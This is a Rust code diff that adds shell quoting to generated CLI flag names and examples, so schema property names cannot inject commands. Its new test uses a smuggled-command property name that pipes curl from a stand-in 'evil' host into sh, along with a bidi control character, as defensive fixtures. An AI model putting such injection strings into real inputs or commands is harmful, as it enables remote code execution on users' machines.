@@ -88,10 +88,16 @@ fn flag_usage(f: &FlagSpec) -> String {
     flag_usage_as(f, f.ty.placeholder())
 }
 
+/// `--flag` as a shell reads it back: quoted when the property's name holds a character the
+/// shell would act on (`;`, `|`, `$`), so a line an agent copies runs no command of the name's.
+fn dashed(flag: &str) -> String {
+    shell_quote(&format!("--{}", inert(flag)))
+}
+
 fn flag_usage_as(f: &FlagSpec, placeholder: String) -> String {
     let body = match &f.ty {
-        FlagType::Boolean => format!("--{}", inert(&f.flag)),
-        _ => format!("--{} {placeholder}", inert(&f.flag)),
+        FlagType::Boolean => dashed(&f.flag),
+        _ => format!("{} {placeholder}", dashed(&f.flag)),
     };
     if f.required { body } else { format!("[{body}]") }
 }
@@ -176,10 +182,10 @@ pub fn example_args(table: &FlagTable, input: &Value) -> String {
     for f in &table.flags {
         let Some(v) = lookup(input, &f.path) else { continue };
         let one = |v: &Value| match v {
-            Value::String(s) => format!("--{} {}", inert(&f.flag), shell_quote(s)),
-            Value::Bool(true) => format!("--{}", inert(&f.flag)),
-            Value::Bool(false) => format!("--no-{}", inert(&f.flag)),
-            other => format!("--{} {}", inert(&f.flag), shell_quote(&other.to_string())),
+            Value::String(s) => format!("{} {}", dashed(&f.flag), shell_quote(s)),
+            Value::Bool(true) => dashed(&f.flag),
+            Value::Bool(false) => shell_quote(&format!("--no-{}", inert(&f.flag))),
+            other => format!("{} {}", dashed(&f.flag), shell_quote(&other.to_string())),
         };
         match (v, &f.ty) {
             (Value::Array(items), FlagType::Array(_)) => out.extend(items.iter().map(one)),
@@ -571,6 +577,15 @@ mod tests {
             assert!(!line.contains(['\n', '\t', '\u{1b}']), "{line}");
         }
         assert!(lines[2].contains("$'x\\x0a## Value'"), "{}", lines[2]);
+        // A name the shell would act on is quoted wherever a command line shows it.
+        let shell = json!({"type": "object", "required": ["x;curl${IFS}evil|sh"], "properties": {
+            "x;curl${IFS}evil|sh": {"type": "string"}, "bidi\u{202e}": {"type": "string"}}});
+        let table = flag_table(&shell);
+        let usage = usage_line("w", "run", &table);
+        assert!(usage.contains("'--x;curl${ifs}evil|sh' <string>"), "{usage}");
+        assert!(usage.contains("'--bidi\\u{202e}' <string>"), "{usage}");
+        let example = example_args(&table, &json!({"x;curl${IFS}evil|sh": "v"}));
+        assert_eq!(example, "'--x;curl${ifs}evil|sh' v");
         let help = tool_help("w", "run", &op);
         assert!(!help.contains('\u{1b}'), "{help}");
         assert!(!help.lines().any(|l| l.starts_with('#')), "{help}");
